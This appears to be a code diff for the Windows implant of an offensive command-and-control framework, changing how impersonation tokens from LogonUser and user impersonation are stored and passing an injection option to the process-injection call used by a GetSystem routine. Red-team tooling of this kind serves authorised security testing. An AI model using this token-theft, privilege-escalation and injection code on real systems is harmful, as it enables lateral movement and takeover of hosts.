@@ -95,6 +95,8 @@ func SePrivEnable(s string) error {
 	return nil
 }
 
+// RevertToSelf stops impersonating the current token, the token is kept
+// (see: Tokens) until it's removed
 func RevertToSelf() error {
 	err := windows.RevertToSelf()
 	if err != nil {
@@ -102,12 +104,6 @@ func RevertToSelf() error {
 		log.Printf("RevertToSelf Error: %v\n", err)
 		// {{end}}
 	}
-	err = windows.CloseHandle(windows.Handle(CurrentToken))
-	if err != nil {
-		// {{if .Config.Debug}}
-		log.Printf("CloseHandle Error: %v\n", err)
-		// {{end}}
-	}
 	CurrentToken = windows.Token(0)
 	return err
 }
@@ -240,7 +236,7 @@ func impersonateUser(username string) (token windows.Token, err error) {
 
 // MakeToken uses LogonUser to create a new logon session with the supplied username, domain and password.
 // It then impersonates the resulting token to allow access to remote network resources as the specified user.
-func MakeToken(domain string, username string, password string, logonType uint32) error {
+func MakeToken(domain string, username string, password string, logonType uint32) (*StoredToken, error) {
 	var token windows.Token
 	// Default to LOGON32_LOGON_NEW_CREDENTIALS
 	if logonType == 0 {
@@ -249,15 +245,15 @@ func MakeToken(domain string, username string, password string, logonType uint32
 
 	pd, err := windows.UTF16PtrFromString(domain)
 	if err != nil {
-		return err
+		return nil, err
 	}
 	pu, err := windows.UTF16PtrFromString(username)
 	if err != nil {
-		return err
+		return nil, err
 	}
 	pp, err := windows.UTF16PtrFromString(password)
 	if err != nil {
-		return err
+		return nil, err
 	}
 	if logonType == 0 {
 		err = syscalls.LogonUser(pu, pd, pp, logonType, syscalls.LOGON32_PROVIDER_WINNT50, &token)
@@ -268,17 +264,21 @@ func MakeToken(domain string, username string, password string, logonType uint32
 		// {{if .Config.Debug}}
 		log.Printf("LogonUser failed: %v\n", err)
 		// {{end}}
-		return err
+		return nil, err
 	}
 	err = syscalls.ImpersonateLoggedOnUser(token)
 	if err != nil {
 		// {{if .Config.Debug}}
 		log.Println("impersonateLoggedOnUser failed:", err)
 		// {{end}}
-		return err
+		return nil, err
 	}
 	CurrentToken = token
-	return err
+	owner := fmt.Sprintf(`%s\%s`, domain, username)
+	if logonType == syscalls.LOGON32_LOGON_NEW_CREDENTIALS {
+		owner += " (netonly)"
+	}
+	return storeToken(token, owner, "make-token", 0, logonType), nil
 }
 
 func createRegistryKey(keyPath string) error {
@@ -415,6 +415,7 @@ func Impersonate(username string) (token windows.Token, err error) {
 		return
 	}
 	CurrentToken = token
+	storeToken(token, username, "impersonate", 0, 0)
 	return
 }
 
@@ -432,7 +433,7 @@ func GetSystem(data []byte, hostingProcess string) (err error) {
 				// {{end}}
 				return
 			}
-			err = taskrunner.RemoteTask(p.Pid(), data, false)
+			err = taskrunner.RemoteTask(p.Pid(), data, false, taskrunner.Injection{})
 			if err != nil {
 				// {{if .Config.Debug}}
 				log.Println("RemoteTask failed:", err)